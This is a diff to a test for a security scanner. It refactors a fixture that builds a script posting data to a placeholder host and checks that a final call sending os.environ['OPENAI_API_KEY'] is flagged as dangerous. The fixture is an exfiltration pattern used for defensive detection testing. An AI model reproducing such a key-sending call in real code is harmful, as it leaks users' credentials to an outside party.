@@ -251,5 +251,6 @@ def test_an_address_does_not_hide_among_many(way: str) -> None:
 def test_a_secret_does_not_hide_among_many_calls() -> None:
     calls = [f'send("report {number}")\n' for number in range(100)]
     for last, verdict in (('"done"', "safe"), ('os.environ["OPENAI_API_KEY"]', "dangerous")):
-        text = f'import os, requests\ndef send(x):\n    requests.post("{STRANGE_PLACE}", data=x)\n{"".join(calls)}send({last})\n'
+        function = f'def send(x):\n    requests.post("{STRANGE_PLACE}", data=x)\n'
+        text = f"import os, requests\n{function}{''.join(calls)}send({last})\n"
         assert scan(script("scripts/start.py", text)).verdict == verdict
